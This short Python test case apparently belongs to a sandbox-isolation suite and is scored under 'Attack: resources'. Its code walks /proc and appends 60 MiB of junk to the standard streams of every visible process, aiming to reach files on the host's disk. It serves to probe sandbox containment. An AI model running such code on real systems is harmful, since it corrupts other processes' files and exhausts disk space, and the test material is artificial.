"""Writes to the standard streams of all visible processes through /proc/PID/fd: one of them may be a file on the host's disk.

Attack: resources
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
# nothing happens outside of a sandbox: on a bare machine this would hit more than canaries
import os
if os.path.exists("/kit/worker.py") or os.uname().nodename == "sandbox":
    import os
    written = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for fd in (0, 1, 2):
            try:
                place = os.readlink(f"/proc/{pid}/fd/{fd}")
                if place.startswith("/dev/"):
                    continue
                with open(f"/proc/{pid}/fd/{fd}", "ab") as file:
                    for _ in range(60):
                        written += file.write(b"x" * (1 << 20))
            except OSError as error:
                stopped = error
    if written:
        raise RuntimeError(f"WROTE {written >> 20} MiB into the host's files")
